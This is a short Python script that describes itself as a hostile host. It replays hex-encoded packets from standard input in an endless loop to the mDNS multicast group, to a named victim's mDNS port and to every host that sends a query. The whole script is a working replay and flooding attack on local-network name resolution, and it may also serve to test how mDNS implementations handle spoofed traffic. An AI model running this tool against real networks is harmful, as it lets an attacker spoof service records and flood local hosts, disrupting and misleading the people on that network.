"""A hostile host: replays packets to all mDNS listeners in a loop.

usage: replay.py OWN_ADDRESS VICTIM_ADDRESS; standard input has one packet per line, in hexadecimal.
Sends them to the group, to the victim's mDNS port, and to each host that sends a query to the group.
Runs until it is killed.
"""

import socket
import sys

GROUP, PORT = "224.0.0.251", 5353

own, victim = sys.argv[1:]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", PORT))
membership = socket.inet_aton(GROUP) + socket.inet_aton(own)
s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
# Pause between two rounds without a query, so that other hosts' packets get through.
s.settimeout(0.06)
packets = [bytes.fromhex(line) for line in sys.stdin]
print("replaying", len(packets), flush=True)
while True:
    places = [(GROUP, PORT), (victim, PORT)]
    try:
        _, asker = s.recvfrom(65535)
        places.append(asker)
    except OSError:
        pass  # There was no query, or its sender has disappeared.
    for place in places:
        for packet in packets:
            try:
                s.sendto(packet, place)
            except OSError:
                pass  # The kernel's buffer is full, or the port is closed.
